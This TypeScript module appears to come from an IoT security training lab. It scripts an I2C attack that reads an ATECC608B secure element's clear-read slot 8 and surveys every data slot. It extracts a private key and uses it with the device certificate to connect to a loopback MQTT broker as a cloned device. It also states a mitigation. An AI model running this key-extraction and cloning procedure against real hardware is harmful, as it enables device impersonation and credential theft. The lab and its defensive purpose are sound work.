/**
 * An attacker clipped onto Port A with an I2C master of their own reads the secure element
 * like the firmware does. On a TNGTLS part slot 8 is "Clear read, Always write" (reference
 * §0: SlotConfig[8] = 0x0F0F, IsSecret = 0), so the seed's Step 3 key comes out with 13 plain
 * Read commands; slot 0 is IsSecret with a private key and the chip refuses every Read of it.
 * Every data slot is tried, so the finding says what is readable, not what the documents say.
 */
import type { Evidence, Finding, Text } from '../core/findings.js';
import { Atecc608Driver, ATECC_TNGTLS_ADDRESS } from '../device/index.js';
import { OPCODE } from '../hardware/atecc608b/index.js';
import { I2cTap } from '../hardware/i2c/index.js';
import { cloneConnect } from './clone.js';
import {
  byteHex,
  firmwareCertificates,
  indexedTrace,
  keyEvidence,
  makeFinding,
  notApplicable,
} from './hardware-kit.js';
import { keysIn, statusName, surveyLine, surveySlots } from './i2c-slots.js';
import { dataSlotOf, decodeAteccTrace } from './i2c-trace.js';
import { assertLoopback } from './loopback.js';
import type { Attack, AttackTarget } from './target.js';

const ATTACK = 'i2c-read';

export const i2cReadSlot8: Attack = {
  name: ATTACK,
  async run(target: AttackTarget): Promise<Finding[]> {
    assertLoopback(target.broker.host);
    const bus = target.publisher.board.bus;
    const base = {
      attack: ATTACK,
      family: 'i2c',
      kase: 'read-slot8',
      step: target.step,
      stride: ['I', 'S'] as const,
      title: {
        en: 'I2C read of the secure element yields the key',
        fr: 'La lecture I2C de l’élément sécurisé livre la clé',
      },
      attempted: {
        en: `With an I2C master on the publisher's Port A: wake the part at ${byteHex(ATECC_TNGTLS_ADDRESS)}, read slot 8 with 13 plain 32-byte Read commands (address (8<<3)|(block<<8)), decode the length-prefixed PKCS#8 key, try every data slot 0–15, pair any key with the certificate from flash and connect to the broker as the device.`,
        fr: `Avec un maître I2C sur le Port A du publieur : réveil du composant en ${byteHex(ATECC_TNGTLS_ADDRESS)}, lecture du slot 8 par 13 commandes Read de 32 octets en clair (adresse (8<<3)|(bloc<<8)), décodage de la clé PKCS#8 précédée de sa longueur, essai de chaque slot de données 0–15, appariement avec le certificat de la flash et connexion au broker en se faisant passer pour le device.`,
      },
    };
    // The attacker's own logic analyser: exactly what this attack put on the wire.
    const tap = new I2cTap(bus);
    try {
      const driver = new Atecc608Driver(bus, ATECC_TNGTLS_ADDRESS);
      const present = await driver.wakeUp();
      // Reference §3.2: idle (word address 0x02) ends the exchange, as the host library does.
      if (present) driver.idleMode();
      if (!present || target.step <= 2) {
        const probe = bus.write(ATECC_TNGTLS_ADDRESS);
        const trace = tap.records();
        const evidence: Evidence[] = [
          {
            kind: 'bus',
            label: { en: 'Probe of the secure element', fr: 'Sondage de l’élément sécurisé' },
            data: indexedTrace(
              trace,
              trace.map((_, i) => i),
            ),
          },
        ];
        const none = !present && !probe.ack;
        if (target.step <= 2) {
          return [
            notApplicable(
              { ...base, evidence },
              {
                en: `Step ${target.step} has no secure element: ${none ? `nothing acknowledges ${byteHex(ATECC_TNGTLS_ADDRESS)} on the bus (NACK)` : 'something answers, but the firmware uses no secure element'}.`,
                fr: `L’étape ${target.step} n’a pas d’élément sécurisé : ${none ? `rien n’acquitte ${byteHex(ATECC_TNGTLS_ADDRESS)} sur le bus (NACK)` : 'un composant répond, mais le firmware n’en utilise aucun'}.`,
              },
            ),
          ];
        }
        return [
          makeFinding({
            ...base,
            outcome: 'blocked',
            evidence,
            result: {
              en: 'No secure element answered the wake-up: nothing could be read.',
              fr: 'Aucun élément sécurisé n’a répondu au réveil : rien n’a pu être lu.',
            },
          }),
        ];
      }
      const device = firmwareCertificates(target).device;
      const survey = await surveySlots(driver);
      const keys = survey.map((r) => (r.bytes.length > 0 ? keysIn(r.bytes, device) : undefined));
      const slot8 = survey[8]!;
      const slot8Keys = keys[8];
      const slot0 = survey[0]!;
      const hit = keys.findIndex((k) => k?.match !== undefined);
      const trace = tap.records();
      const file = target.saveArtifact(
        `i2c-read-step${target.step}.txt`,
        indexedTrace(
          trace,
          trace.map((_, i) => i),
          trace.length,
        ),
      );
      const slot8Exchanges = decodeAteccTrace(trace).filter(
        (e) => e.opcode === OPCODE.READ && dataSlotOf(e)?.slot === 8,
      );
      const slot8Reads = slot8Exchanges.flatMap((e) => [e.index, ...e.responseIndices]);
      const reads = slot8Exchanges.length;
      const evidence: Evidence[] = [
        {
          kind: 'bus',
          label: { en: 'Slot 8: Read commands and answers', fr: 'Slot 8 : commandes Read et réponses' },
          data: indexedTrace(trace, slot8Reads),
          file,
        },
        {
          kind: 'bus',
          label: {
            en: 'Every data slot, as the chip answered',
            fr: 'Chaque slot de données, selon la réponse de la puce',
          },
          data: survey.map((r, i) => surveyLine(r, keys[i])).join('\n'),
          file,
        },
      ];
      const slot8Text = slot8Keys?.slotKey
        ? `length prefix ${slot8Keys.slotKey.der.length}, PKCS#8 DER ${slot8Keys.slotKey.key.asymmetricKeyType}`
        : `no key in the lab sheet's format (${slot8Keys?.slotKeyError ?? statusName(slot8.status)})`;
      if (hit < 0) {
        return [
          makeFinding({
            ...base,
            outcome: 'blocked',
            evidence,
            result: {
              en: `Slot 8 read back ${slot8.bytes.length} bytes: ${slot8Text}. The chip refused slot 0 with status ${statusName(slot0.status)} (SlotConfig.IsSecret, private key). No readable slot holds a key matching the device certificate${device ? ` (${device.subject})` : ''}.`,
              fr: `Le slot 8 a rendu ${slot8.bytes.length} octets : ${slot8Text}. La puce a refusé le slot 0 avec le statut ${statusName(slot0.status)} (SlotConfig.IsSecret, clé privée). Aucun slot lisible ne contient de clé correspondant au certificat du device${device ? ` (${device.subject})` : ''}.`,
            },
          }),
        ];
      }
      const key = keys[hit]!.match!;
      const clone = await cloneConnect(target, {
        keyPem: key.key!.export({ type: 'pkcs8', format: 'pem' }) as string,
        certPem: device!.pem,
        source: { en: `an I2C read of slot ${hit}`, fr: `lecture I2C du slot ${hit}` },
      });
      evidence.push(
        keyEvidence({ en: `Key read from slot ${hit}`, fr: `Clé lue dans le slot ${hit}` }, key.spkiSha256!, [
          `slot ${hit}: ${hit === 8 ? slot8Text : key.format}, matches certificate ${device!.subject}`,
        ]),
        ...clone.evidence,
      );
      return [
        makeFinding({
          ...base,
          outcome: clone.connected ? 'succeeded' : 'blocked',
          evidence,
          result: clone.connected
            ? {
                en: `Slot ${hit} is readable in clear: ${hit === 8 ? `${reads} Read commands returned` : 'the Reads returned'} the device's private key (${hit === 8 ? slot8Text : key.format}); with the certificate from flash the clone got CONNACK 0 as ${device!.subject}. Slot 0 was refused (${statusName(slot0.status)}).`,
                fr: `Le slot ${hit} se lit en clair : ${hit === 8 ? `${reads} commandes Read ont rendu` : 'les lectures ont rendu'} la clé privée du device (${hit === 8 ? slot8Text : key.format}) ; avec le certificat de la flash, le clone a obtenu CONNACK 0 en tant que ${device!.subject}. Le slot 0 a été refusé (${statusName(slot0.status)}).`,
              }
            : {
                en: `The key was read from slot ${hit}, but the broker refused the clone: ${clone.failure ?? `CONNACK ${clone.connackCode}`}.`,
                fr: `La clé a été lue dans le slot ${hit}, mais le broker a refusé le clone : ${clone.failure ?? `CONNACK ${clone.connackCode}`}.`,
              },
          ...(clone.connected ? { mitigation: MITIGATION } : {}),
        }),
      ];
    } finally {
      tap.detach();
    }
  },
};

export const MITIGATION: Text = {
  en: 'Do not store a private key in a data slot: on an ATECC608B-TNGTLS slot 8 is clear-read and always-write, permanently (the config zone is locked at the factory). Use the slot-0 key through Sign/ECDH (the TLS stack asks the chip to sign: Step 4), so the key never crosses the bus.',
  fr: 'Ne pas stocker de clé privée dans un slot de données : sur un ATECC608B-TNGTLS le slot 8 est lisible en clair et inscriptible par tous, définitivement (zone de configuration verrouillée en usine). Utiliser la clé du slot 0 via Sign/ECDH (la pile TLS fait signer la puce : étape 4), pour que la clé ne passe jamais sur le bus.',
};
